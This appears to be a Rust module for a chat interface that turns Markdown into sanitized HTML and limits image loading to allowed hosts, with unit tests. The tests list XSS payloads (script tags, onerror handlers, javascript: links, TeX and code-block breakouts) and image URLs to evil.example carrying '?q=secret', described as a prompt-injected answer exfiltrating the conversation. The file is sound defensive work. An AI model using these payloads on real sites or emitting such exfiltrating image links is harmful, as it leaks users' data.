//! Markdown to safe HTML, for showing messages: CommonMark with tables, strikethrough, task
//! lists and footnotes (pulldown-cmark), code blocks highlighted with CSS classes (syntect,
//! `hl-` prefixed, so the page's stylesheet picks the colours), TeX (`$...$`, `$$...$$`) as
//! MathML that browsers typeset natively (pulldown-latex), and everything passed through a
//! whitelist sanitizer (ammonia). Raw HTML in the text is shown as text, never interpreted.
//! Images load only from this server or the hosts the administrator allows: any other becomes
//! a link to it, since an image is fetched without a click and its URL can carry the
//! conversation away. A pure function of its input and those hosts.

use std::sync::OnceLock;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, Options, Parser, Tag, TagEnd, html};

use crate::config::ImageHosts;
use syntect::html::{ClassStyle, ClassedHTMLGenerator};
use syntect::parsing::SyntaxSet;
use syntect::util::LinesWithEndings;

/// Code blocks longer than this are shown without highlighting (it is the slow part).
const MAX_HIGHLIGHT_BYTES: usize = 64 * 1024;

fn syntaxes() -> &'static SyntaxSet {
    static SET: OnceLock<SyntaxSet> = OnceLock::new();
    SET.get_or_init(SyntaxSet::load_defaults_newlines)
}

fn escape(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    pulldown_cmark_escape::escape_html(&mut out, text).expect("writing to a String");
    out
}

/// A code block as HTML: highlighted when its language is known.
fn code_block(lang: &str, code: &str) -> String {
    let lang = lang.split([' ', ',', '{']).next().unwrap_or("").trim();
    let class = lang
        .chars()
        .filter(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '#'))
        .collect::<String>();
    let set = syntaxes();
    let syntax = (!lang.is_empty() && code.len() <= MAX_HIGHLIGHT_BYTES)
        .then(|| set.find_syntax_by_token(lang))
        .flatten();
    let body = match syntax {
        Some(syntax) => {
            let mut generator = ClassedHTMLGenerator::new_with_class_style(
                syntax,
                set,
                ClassStyle::SpacedPrefixed { prefix: "hl-" },
            );
            let highlighted = LinesWithEndings::from(code)
                .try_for_each(|line| generator.parse_html_for_line_which_includes_newline(line));
            match highlighted {
                Ok(()) => generator.finalize(),
                Err(_) => escape(code),
            }
        }
        None => escape(code),
    };
    if class.is_empty() {
        format!("<pre><code>{body}</code></pre>\n")
    } else {
        format!("<pre><code class=\"language-{class}\">{body}</code></pre>\n")
    }
}

/// The MathML elements and attributes the TeX renderer writes, which the sanitizer keeps.
const MATHML_TAGS: [&str; 24] = [
    "math",
    "semantics",
    "annotation",
    "mrow",
    "mi",
    "mn",
    "mo",
    "ms",
    "mtext",
    "mspace",
    "mfrac",
    "msqrt",
    "mroot",
    "msub",
    "msup",
    "msubsup",
    "munder",
    "mover",
    "munderover",
    "mtable",
    "mtr",
    "mtd",
    "mstyle",
    "merror",
];
const MATHML_ATTRIBUTES: [&str; 18] = [
    "display",
    "mathvariant",
    "stretchy",
    "symmetric",
    "largeop",
    "movablelimits",
    "maxsize",
    "minsize",
    "lspace",
    "rspace",
    "linethickness",
    "displaystyle",
    "scriptlevel",
    "width",
    "height",
    "depth",
    "encoding",
    "accent",
];

/// TeX as MathML; a formula the parser cannot read is shown as its source in an `merror`.
fn math(tex: &str, display: bool) -> String {
    use pulldown_latex::config::DisplayMode;
    use pulldown_latex::{Parser as TexParser, RenderConfig, Storage, push_mathml};
    let storage = Storage::new();
    let parser = TexParser::new(tex, &storage);
    let config = RenderConfig {
        display_mode: if display {
            DisplayMode::Block
        } else {
            DisplayMode::Inline
        },
        annotation: Some(tex),
        ..RenderConfig::default()
    };
    let mut out = String::new();
    // The renderer is given hostile input too: a panic becomes the plain source.
    let rendered = std::panic::catch_unwind(std::panic::AssertUnwindSafe(|| {
        push_mathml(&mut out, parser, config)
    }));
    match rendered {
        Ok(Ok(())) => out,
        _ => format!("<code class=\"math-error\">{}</code>", escape(tex)),
    }
}

fn sanitizer() -> &'static ammonia::Builder<'static> {
    static CLEAN: OnceLock<ammonia::Builder<'static>> = OnceLock::new();
    CLEAN.get_or_init(|| {
        let mut b = ammonia::Builder::default();
        b.add_generic_attributes(["class"])
            .add_tags(["input"])
            .add_tag_attributes("input", ["type", "checked", "disabled"])
            .add_tags(MATHML_TAGS);
        for tag in MATHML_TAGS {
            b.add_tag_attributes(tag, MATHML_ATTRIBUTES);
        }
        b.url_schemes(["http", "https", "mailto"].into_iter().collect())
            .link_rel(Some("noopener noreferrer nofollow"));
        b
    })
}

/// Whether an image at `dest` may load: a path on this server, or https from an allowed host.
fn image_allowed(dest: &str, images: &ImageHosts) -> bool {
    let dest = dest.trim();
    // An address with a scheme is judged as written, never as a path here: a browser reads
    // `https:evil.example/a.png` as a path on this server only when the page itself is https,
    // and as evil.example when it is http.
    match url::Url::parse(dest) {
        Ok(u) => return u.scheme() == "https" && u.host_str().is_some_and(|h| images.allows(h)),
        Err(url::ParseError::RelativeUrlWithoutBase) => {}
        Err(_) => return false,
    }
    // Relative: resolved as a browser would (`//host/x` and `/\host/x` name another host),
    // against stand-ins for this server over https and over http; both must allow it.
    const HERE: &str = "librechat.invalid";
    static BASES: OnceLock<[url::Url; 2]> = OnceLock::new();
    let bases = BASES.get_or_init(|| {
        ["https://librechat.invalid/", "http://librechat.invalid/"]
            .map(|b| url::Url::parse(b).expect("a URL"))
    });
    bases.iter().all(|base| match base.join(dest) {
        Ok(u) => match u.host_str() {
            Some(HERE) => u.scheme() == base.scheme(),
            Some(host) => u.scheme() == "https" && images.allows(host),
            None => false,
        },
        Err(_) => false,
    })
}

/// What became of an image the text asked for.
enum Shown {
    /// Kept as an image.
    Image,
    /// Shown as a link to it, with its alt text (or its URL) as the link's text.
    Link { url: String, from: usize },
    /// Left out, alt text kept (inside a link, where another link cannot go).
    Dropped,
}

/// `markdown` as sanitized HTML, with images only from this server and `images`.
pub fn to_html(markdown: &str, images: &ImageHosts) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_MATH;
    let mut events: Vec<Event<'_>> = Vec::new();
    let mut code: Option<(String, String)> = None;
    let mut shown: Vec<Shown> = Vec::new();
    let mut links = 0usize;
    for event in Parser::new_ext(markdown, options) {
        match event {
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                if image_allowed(&dest_url, images) {
                    shown.push(Shown::Image);
                    events.push(Event::Start(Tag::Image {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }));
                } else if links > 0 {
                    shown.push(Shown::Dropped);
                } else {
                    links += 1;
                    shown.push(Shown::Link {
                        url: dest_url.to_string(),
                        from: events.len(),
                    });
                    events.push(Event::Start(Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    }));
                }
            }
            Event::End(TagEnd::Image) => match shown.pop() {
                Some(Shown::Link { url, from }) => {
                    links -= 1;
                    if events.len() == from + 1 {
                        events.push(Event::Text(CowStr::from(url)));
                    }
                    events.push(Event::End(TagEnd::Link));
                }
                Some(Shown::Dropped) => {}
                Some(Shown::Image) | None => events.push(Event::End(TagEnd::Image)),
            },
            Event::Start(Tag::Link { .. }) => {
                links += 1;
                events.push(event);
            }
            Event::End(TagEnd::Link) => {
                links = links.saturating_sub(1);
                events.push(event);
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                let lang = match kind {
                    CodeBlockKind::Fenced(info) => info.to_string(),
                    CodeBlockKind::Indented => String::new(),
                };
                code = Some((lang, String::new()));
            }
            Event::Text(t) if code.is_some() => {
                if let Some((_, body)) = code.as_mut() {
                    body.push_str(&t);
                }
            }
            Event::End(TagEnd::CodeBlock) => {
                if let Some((lang, body)) = code.take() {
                    events.push(Event::Html(CowStr::from(code_block(&lang, &body))));
                }
            }
            Event::InlineMath(tex) => events.push(Event::InlineHtml(CowStr::from(format!(
                "<span class=\"math math-inline\">{}</span>",
                math(&tex, false)
            )))),
            Event::DisplayMath(tex) => events.push(Event::Html(CowStr::from(format!(
                "<div class=\"math math-display\">{}</div>",
                math(&tex, true)
            )))),
            // Raw HTML from a model or a person is text to show, not markup to obey.
            Event::Html(raw) | Event::InlineHtml(raw) => events.push(Event::Text(raw)),
            other => events.push(other),
        }
    }
    let mut out = String::with_capacity(markdown.len() * 2);
    html::push_html(&mut out, events.into_iter());
    sanitizer().clean(&out).to_string()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn html_of(markdown: &str) -> String {
        to_html(markdown, &ImageHosts::default())
    }

    #[test]
    fn markdown_tables_lists_and_math() {
        let html = html_of(
            "# Title\n\n**bold** and ~~gone~~\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n$e^{i\\pi}$ and $$x < y$$",
        );
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(
            html.contains("<strong>bold</strong>") && html.contains("<del>gone</del>"),
            "{html}"
        );
        assert!(
            html.contains("<table>") && html.contains("<td>1</td>"),
            "{html}"
        );
        assert!(html.contains("type=\"checkbox\""), "{html}");
        // TeX becomes MathML, with its source kept as an annotation.
        assert!(
            html.contains("<span class=\"math math-inline\"><math"),
            "{html}"
        );
        assert!(
            html.contains("<msup>") && html.contains("<mi>e</mi>"),
            "{html}"
        );
        assert!(html.contains("e^{i\\pi}</annotation>"), "{html}");
        assert!(
            html.contains("<div class=\"math math-display\"><math display=\"block\""),
            "{html}"
        );
        assert!(html.contains("<mo>&lt;</mo>"), "{html}");
        // A formula that does not parse still shows its source.
        let broken = html_of("$\\frac{1$");
        assert!(broken.contains("frac"), "{broken}");
    }

    #[test]
    fn code_is_highlighted_with_classes() {
        let html =
            html_of("```rust\nfn main() { let x = \"<b>\"; }\n```\n\n```nosuchlang\na < b\n```");
        assert!(
            html.contains("<pre><code class=\"language-rust\">"),
            "{html}"
        );
        assert!(html.contains("class=\"hl-"), "{html}");
        assert!(html.contains("&lt;b&gt;"), "{html}");
        assert!(
            html.contains("<code class=\"language-nosuchlang\">a &lt; b"),
            "{html}"
        );
    }

    #[test]
    fn images_load_only_from_this_server_or_allowed_hosts() {
        // A prompt-injected answer tries to send the conversation away in an image URL.
        for input in [
            "![x](https://evil.example/?q=secret)",
            "![x](http://evil.example/a.png)",
            "![x](//evil.example/a.png)",
            "![x](/\\evil.example/a.png)",
            "![x][r]\n\n[r]: https://evil.example/r.png",
            "[![x](https://evil.example/a.png)](https://example.org)",
            "![![y](https://evil.example/b.png)](https://evil.example/a.png)",
            "![](https://evil.example/?q=secret)",
            "![x](https://images.example.com.evil.example/a.png)",
            // A scheme without slashes: this server's path only on a page served over https.
            "![x](https:evil.example/a.png)",
            "![x](https:/evil.example/a.png)",
            "![x](HTTPS:evil.example/a.png)",
            "![x](http:evil.example/a.png)",
            "![x](https:\\evil.example/a.png)",
            "![x]( https:evil.example/a.png )",
            "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        ] {
            let html = to_html(input, &ImageHosts::of(["images.example.com"]));
            assert!(
                !tags(&html).iter().any(|t| t.starts_with("img")),
                "{input:?} gave {html}"
            );
        }
        // Shown as a link the person may follow, with its alt text or its address.
        let html = html_of("![the chart](https://evil.example/c.png)");
        assert!(
            html.contains("<a href=\"https://evil.example/c.png\" rel=\"noopener noreferrer nofollow\">the chart</a>"),
            "{html}"
        );
        assert!(
            html_of("![](https://evil.example/c.png)").contains(">https://evil.example/c.png</a>")
        );
        // Inside a link: the alt text only.
        let html = html_of("[![x](https://evil.example/a.png)](https://example.org)");
        assert_eq!(
            tags(&html).iter().filter(|t| t.starts_with("a ")).count(),
            1,
            "{html}"
        );
        // This server's images, and allowed hosts over https, stay images.
        let allowed = ImageHosts::of(["images.example.com", "*.cdn.example.org"]);
        for input in [
            "![x](/images/u1/a.png)",
            "![x](images/a.png)",
            "![x](https://images.example.com/a.png)",
            "![x](https://a.cdn.example.org/a.png)",
            "![x](https:images.example.com/a.png)",
            "![x](./a.png?x=1#y)",
        ] {
            let html = to_html(input, &allowed);
            assert!(html.contains("<img src="), "{input:?} gave {html}");
        }
        let html = to_html("![x](http://images.example.com/a.png)", &allowed);
        assert!(!html.contains("<img"), "https only: {html}");
    }

    /// The tags in `html` (text between `<` and `>`): where markup, not text, would act.
    fn tags(html: &str) -> Vec<String> {
        html.split('<')
            .skip(1)
            .filter_map(|t| t.split_once('>').map(|(tag, _)| tag.to_ascii_lowercase()))
            .collect()
    }

    #[test]
    fn hostile_input_stays_inert() {
        for input in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "[click](javascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "<a href=\"https://x\" onclick=\"steal()\">x</a>",
            "<div style=\"position:fixed\">x",
            "![x](https://example.org/i.png \"t\" onerror=\"a\")",
            "![x](javascript:alert(1))",
            "<iframe src=https://evil></iframe>",
            "```\n</code></pre><script>x</script>\n```",
            "$</span><script>x</script>$",
            "$\\href{javascript:alert(1)}{x}$",
            "$\\text{<script>alert(1)</script>}$",
            "$\\color{red}{x} \\style{color:red}{y}$",
            "$$\\begin{array}{c} <img src=x onerror=alert(1)> \\end{array}$$",
            "$\\mathrm{\\href{data:text/html,x}{y}}$",
            "<svg><animate onbegin=alert(1)>",
            "<<<>>> </p> <p <b",
            "[a](<javascript:alert(1)>)",
            "[a]: javascript:alert(1)\n\n[a]",
        ] {
            let html = html_of(input);
            for tag in tags(&html) {
                let name = tag
                    .trim_start_matches('/')
                    .split([' ', '/'])
                    .next()
                    .unwrap_or("")
                    .to_owned();
                assert!(
                    ![
                        "script", "iframe", "svg", "style", "object", "embed", "form"
                    ]
                    .contains(&name.as_str()),
                    "{input:?} gave {html}"
                );
                assert!(
                    !tag.contains(" on") || !tag.contains('='),
                    "event attribute in <{tag}> from {input:?}"
                );
                assert!(
                    !tag.contains("javascript:")
                        && !tag.contains("data:")
                        && !tag.contains("style="),
                    "<{tag}> from {input:?}"
                );
            }
        }
        let link = html_of("[ok](https://example.org)");
        assert!(
            link.contains("rel=\"noopener noreferrer nofollow\""),
            "{link}"
        );
        // Raw HTML shows as text.
        assert!(html_of("<b>hi</b>").contains("&lt;b&gt;hi&lt;/b&gt;"));
    }
}
